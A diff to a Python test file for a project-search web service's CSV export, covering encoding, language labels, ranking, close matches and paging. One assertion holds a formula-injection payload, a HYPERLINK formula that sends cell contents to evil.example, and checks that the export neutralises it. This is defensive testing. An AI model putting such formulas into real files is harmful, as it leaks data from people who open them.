@@ -185,16 +185,23 @@ def test_feeds_are_rate_limited_like_every_route(make_index: Callable[..., Proje
 
 
 # -- exports ----------------------------------------------------------------------------
+def csv_rows(r: object, sep: str = ",") -> list[dict[str, str]]:
+    """The rows of a CSV export as dicts by column, after checking its header."""
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=sep))  # type: ignore[attr-defined]
+    assert tuple(rows[0]) == CSV_COLUMNS
+    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]
+
+
 def test_csv_export_has_a_bom_a_header_and_neutralised_formulas(client: TestClient) -> None:
-    r = client.get("/export.csv", params={"q": NEED})
+    r = client.get("/export.csv", params={"q": NEED, "lang": "en"})
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv; charset=utf-8")
     assert r.content.startswith("\ufeff".encode())
     disposition = r.headers["content-disposition"]
     assert disposition.startswith('attachment; filename="erfa-chatbot-for-byggesoknader.csv"')
     assert unquote(disposition.split("filename*=UTF-8''")[1]) == "erfa-chatbot-for-byggesøknader.csv"
-    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
-    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 1 + len(CORPUS)
-    by_id = {row[0]: dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]}
+    rows = csv_rows(r)
+    assert len(rows) == len(CORPUS)  # closeness cannot be judged on seven projects: the first page
+    by_id = {row["id"]: row for row in rows}
     hostile = by_id["test-5"]
     assert hostile["title"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Chatbot")'
     assert hostile["organisation"] == "'@Fjordby <kommune>"
@@ -208,19 +215,83 @@ def test_csv_export_has_a_bom_a_header_and_neutralised_formulas(client: TestClie
         askoy["sector"],
         askoy["start_year"],
         askoy["end_year"],
-    ) == ("Askøy kommune", "NO", "implemented", "building_maps", "2021", "")
+    ) == ("Askøy kommune", "Norway", "In use", i18n.label("en", "sector", "building_maps"), "2021", "")
     assert askoy["link"] == "https://askoy.example/chatbot"
-    # in ranking order, as on the results page
-    assert [row[0] for row in rows[1:]] == [
-        h["id"] for h in client.get("/search", params={"q": NEED}).json()["results"]
-    ]
+    # in ranking order, as on the results page, with the rank and score the page ranked by
+    found = client.get("/search", params={"q": NEED}).json()["results"]
+    assert [row["id"] for row in rows] == [h["id"] for h in found]
+    assert [row["rank"] for row in rows] == [str(i) for i in range(1, len(rows) + 1)]
+    assert [float(row["score"]) for row in rows] == pytest.approx([h["score"] for h in found], abs=1e-4)
+    assert all(row["close_match"] == "" for row in rows)  # not judged: nothing is marked
+
+
+def test_csv_export_labels_speak_the_readers_language(client: TestClient) -> None:
+    rows = csv_rows(client.get("/export.csv", params={"q": NEED, "lang": "sv", "sep": ";"}), ";")
+    askoy = next(row for row in rows if row["id"] == "test-1")
+    assert (askoy["country"], askoy["status"]) == ("Norge", "I drift")
+    danish = next(row for row in rows if row["id"] == "test-4")
+    assert danish["country"] == "Danmark"
+    # without ?lang= the cookie decides, as for the pages
+    client.cookies.set("erfa_lang", "nn")
+    rows = csv_rows(client.get("/export.csv", params={"q": NEED}))
+    assert next(row for row in rows if row["id"] == "test-1")["country"] == "Noreg"
+
+
+def test_csv_export_gives_the_organisations_web_site(make_index: Callable[..., ProjectIndex], tmp_path: Path) -> None:
+    idx = make_index()
+    # the site is on another project of the same body: the export still has it (organisation_contact)
+    idx.upsert(
+        [
+            *CORPUS,
+            rec(
+                "8",
+                "Bokroboten",
+                "Robot i biblioteket.",
+                organisation="Askøy kommune",
+                country="NO",
+                website="https://askoy.example",
+            ),
+        ]
+    )
+    with TestClient(create_app(Settings(home=tmp_path / "home", demo=False, rate_limit=0), index=idx, wait=True)) as c:
+        rows = csv_rows(c.get("/export.csv", params={"q": NEED}))
+    by_id = {row["id"]: row for row in rows}
+    assert by_id["test-1"]["organisation_website"] == "https://askoy.example"
+    assert by_id["test-4"]["organisation_website"] == ""
+
+
+def test_csv_export_holds_the_close_matches_wherever_the_page_was(
+    client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(ranking, "CLOSE_MATCH_MIN_PASSAGES", 1)
+    set_close_match(monkeypatch, -99)  # every result stands out: all are close matches
+    found = client.get("/search", params={"q": NEED, "limit": 20}).json()
+    assert found["matches"] and found["matches"] == sum(h["close_match"] for h in found["results"])
+    for offset in (0, 5):
+        rows = csv_rows(client.get("/export.csv", params={"q": NEED, "offset": offset, "lang": "sv"}))
+        assert [row["id"] for row in rows] == [h["id"] for h in found["results"] if h["close_match"]]
+        assert {row["close_match"] for row in rows} == {"Nära träff"}
+
+
+def test_csv_export_without_a_close_match_is_the_page_the_person_was_on(
+    client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(ranking, "CLOSE_MATCH_MIN_PASSAGES", 1)
+    monkeypatch.setattr("erfa.service.api.routers.feeds.PAGE_SIZE", 3)  # seven projects: pages of three
+    set_close_match(monkeypatch, 99)  # nothing stands out
+    ranked = [h["id"] for h in client.get("/search", params={"q": NEED, "limit": 20}).json()["results"]]
+    first = csv_rows(client.get("/export.csv", params={"q": NEED}))
+    second = csv_rows(client.get("/export.csv", params={"q": NEED, "offset": 3}))
+    assert [row["id"] for row in first] == ranked[:3] and [row["rank"] for row in first] == ["1", "2", "3"]
+    assert [row["id"] for row in second] == ranked[3:6] and [row["rank"] for row in second] == ["4", "5", "6"]
+    assert all(row["close_match"] == "" for row in first + second)
 
 
 def test_csv_export_takes_filters_and_a_semicolon_for_nordic_excel(client: TestClient) -> None:
-    r = client.get("/export.csv", params={"q": NEED, "country": "NO", "sep": ";", "limit": 2})
-    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
-    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 3
-    assert {row[3] for row in rows[1:]} == {"NO"}
+    r = client.get("/export.csv", params={"q": NEED, "country": "NO", "sep": ";", "limit": 2, "lang": "nb"})
+    rows = csv_rows(r, ";")
+    assert len(rows) == 2  # an explicit limit: that window of the ranking, for scripts
+    assert {row["country"] for row in rows} == {"Norge"}
     assert client.get("/export.csv", params={"q": NEED, "sep": "|"}).status_code == 422
     assert client.get("/export.csv", params={"q": NEED, "limit": MAX_WINDOW + 1}).status_code == 422
 
